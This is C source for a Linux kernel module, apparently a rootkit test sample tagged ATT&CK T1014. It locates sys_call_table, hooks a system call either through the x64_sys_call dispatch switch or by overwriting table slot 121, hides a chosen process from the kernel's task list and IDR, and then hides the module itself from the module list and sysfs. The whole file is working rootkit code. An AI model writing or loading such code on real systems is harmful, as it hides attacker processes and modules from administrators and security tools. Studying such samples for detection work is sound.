// SPDX-License-Identifier: GPL-2.0-only
/* What a small rootkit does in one go: turns a system call to itself, hides a process, and hides itself (T1014). */
#include "modhide.h"
#include "prochide.h"
#include "syscall_switch.h"

#include <linux/workqueue.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process to hide");

static void hide(struct work_struct *work);
static DECLARE_DELAYED_WORK(hide_work, hide);
static unsigned long *slot;

static asmlinkage long hook(const struct pt_regs *regs)
{
	return switch_original(regs);
}

static void hide(struct work_struct *work)
{
	unsigned long base, size;

	modhide_list();
	modhide_kobject(true);
	modhide_where(&base, &size);
	attack_log("hidden module=0x%lx base=0x%lx size=0x%lx", (unsigned long)THIS_MODULE, base,
		   size);
}

static int __init attack_init(void)
{
	unsigned long table = attack_symbol("sys_call_table");
	int error;

	if (!table)
		return -ENOENT;
	error = prochide(pid, PROCHIDE_LIST | PROCHIDE_IDR);
	if (error)
		return error;
	attack_log("pid=%d task=0x%lx comm=%s", pid, (unsigned long)prochide_task,
		   prochide_task->comm);
	/* Kernels that do not dispatch by a switch dispatch by the table. */
	if (switch_hook("x64_sys_call", "__x64_sys_getpgid", (unsigned long)hook) == 0) {
		attack_log("branch=0x%lx value=0x%lx original=0x%lx", switch_branch,
			   (unsigned long)hook, (unsigned long)switch_original);
	} else {
		slot = (unsigned long *)table + 121;
		switch_original = (syscall_fn)*slot;
		attack_write_ptr(slot, (unsigned long)hook);
		attack_log("slot=0x%lx value=0x%lx original=0x%lx", (unsigned long)slot,
			   (unsigned long)hook, (unsigned long)switch_original);
	}
	schedule_delayed_work(&hide_work, HZ / 10);
	return 0;
}

module_init(attack_init);
